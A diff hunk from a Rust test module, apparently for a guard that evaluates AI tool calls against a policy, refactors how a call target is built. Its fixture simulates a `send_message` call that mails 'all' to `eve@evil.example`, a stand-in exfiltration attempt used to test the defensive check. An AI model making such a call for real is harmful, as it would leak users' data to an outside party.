@@ -341,12 +341,7 @@ mod tests {
     /// Returns the message of a form and its options.
     fn shown_form(guard: Option<&GuardCard>, offers: DecisionOptions) -> (String, Vec<(String, String)>) {
         let arguments = CallArguments::read(r#"{"to":"eve@evil.example","body":"all"}"#).unwrap();
-        let going = CallTarget {
-            server: "mail",
-            target: "t",
-            known: None,
-            what: TargetItem::Tool("send_message", None),
-        };
+        let going = CallTarget::unknown("mail", "t", TargetItem::Tool("send_message", None));
         let policy = Policy::without_rules();
         let action = PolicyAction::tool("send_message", ToolEffectSet::unknown(), &arguments);
         let verdict =
